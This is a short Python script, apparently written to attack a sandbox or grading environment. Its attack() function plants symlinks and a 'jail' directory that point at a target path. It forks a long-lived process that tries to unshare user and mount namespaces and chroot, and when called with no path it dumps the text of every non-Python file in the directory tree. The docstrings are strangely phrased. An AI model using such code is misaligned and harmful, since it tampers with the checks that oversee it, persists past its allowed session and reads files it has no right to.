"""Plants links, and another root, where what it has written is looked for once it is started again."""

import contextlib
import ctypes
import os
import time
from pathlib import Path

NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000


def attack(path: str = "") -> str:
    """Plant them, that lead to a path; without one, tell all that there is to read."""
    if not path:
        return "".join(_text(each) for each in sorted(Path().rglob("*")))
    jail = Path("jail")
    jail.mkdir()
    (jail / "submission").symlink_to(Path(path).parent)
    for name in ("link", "submission"):
        Path(name).symlink_to(path)
    for name in ("folder", "made"):
        Path(name).symlink_to(Path(path).parent)
    if os.fork() == 0:  # the last process that there is
        with contextlib.suppress(OSError):
            ctypes.CDLL(None).unshare(NEW_USER | NEW_MOUNTS)
            os.chroot("jail")
        time.sleep(1000)
        os._exit(0)
    return "planted"


def _text(path: Path) -> str:
    with contextlib.suppress(OSError, UnicodeDecodeError):
        return path.read_text() if path.suffix != ".py" else ""
    return ""
